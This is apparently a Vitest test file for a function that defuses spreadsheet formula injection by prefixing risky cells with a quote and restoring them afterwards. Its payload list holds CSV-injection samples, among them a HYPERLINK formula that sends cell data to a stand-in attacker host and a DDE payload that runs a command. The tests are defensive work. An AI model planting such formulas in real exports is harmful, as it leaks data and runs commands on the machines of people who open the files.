import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreNeutralised } from './formulaCells.ts';

const payloads = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

describe('formula cells', () => {
  it.each(payloads)('%j opens as text and comes back unchanged', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(restoreNeutralised(neutraliseFormula(text))).toBe(text);
  });

  it.each(['Phone, 128 GB', 'a=b', "'quoted", "O'Brien", ''])('leaves %j as it is, both ways', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
    expect(restoreNeutralised(text)).toBe(text);
  });
});
